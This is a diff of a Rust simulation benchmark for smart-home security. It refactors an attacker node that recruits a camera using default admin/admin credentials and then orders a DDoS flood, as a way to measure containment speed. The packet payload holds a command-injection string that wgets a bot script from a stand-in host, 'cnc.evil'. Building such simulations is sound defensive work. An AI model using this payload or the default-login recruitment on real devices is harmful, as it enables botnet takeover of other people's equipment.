@@ -14,7 +14,7 @@
 use xlf_bench::print_table;
 use xlf_core::framework::{HomeDevice, XlfConfig, XlfHome};
 use xlf_device::{SensorKind, VulnSet, Vulnerability};
-use xlf_simnet::{Context, Duration, Medium, Node, NodeId, Packet, SimTime};
+use xlf_simnet::{Body, Context, Duration, Medium, Node, NodeId, Packet, SimTime};
 
 /// Attacker that recruits the camera and immediately orders a sustained
 /// flood — so containment speed is what decides the damage.
@@ -29,22 +29,19 @@ impl Node for FastAttacker {
     }
     fn on_timer(&mut self, ctx: &mut Context<'_>, tag: u64) {
         if tag == 1 {
-            let login = Packet::new(
-                ctx.id(),
-                self.gateway,
-                "login",
-                b"wget${IFS}http://cnc.evil/bot.sh".to_vec(),
-            )
-            .with_meta("device", "cam")
-            .with_meta("user", "admin")
-            .with_meta("pass", "admin");
+            let (device, user, pass) = (Some("cam".into()), "admin", "admin");
+            let body = Body::Login { device, user, pass };
+            let payload = b"wget${IFS}http://cnc.evil/bot.sh".to_vec();
+            let login = Packet::new(ctx.id(), self.gateway, body, payload);
             ctx.send(self.gateway, login);
             ctx.set_timer(Duration::from_millis(500), 2);
         } else {
-            let order = Packet::new(ctx.id(), self.gateway, "attack-cmd", Vec::new())
-                .with_meta("device", "cam")
-                .with_meta("target", self.flood_target.raw().to_string())
-                .with_meta("count", "5000");
+            let body = Body::AttackCmd {
+                device: Some("cam".into()),
+                target: self.flood_target,
+                count: 5000,
+            };
+            let order = Packet::new(ctx.id(), self.gateway, body, Vec::new());
             ctx.send(self.gateway, order);
         }
     }
@@ -68,7 +65,7 @@ fn run(response_delay: Duration) -> (u64, Option<Duration>) {
     home.net
         .connect(attacker, home.gateway, Medium::Wan.link().with_loss(0.0));
     let (tap, records) =
-        xlf_simnet::observer::RecordingTap::filtered(move |p| p.kind == "ddos" && p.dst == cloud);
+        xlf_simnet::observer::RecordingTap::filtered(move |p| p.kind() == "ddos" && p.dst == cloud);
     home.net.add_tap(Box::new(tap));
     home.net.run_until(SimTime::from_secs(300));
     let records = records.borrow();
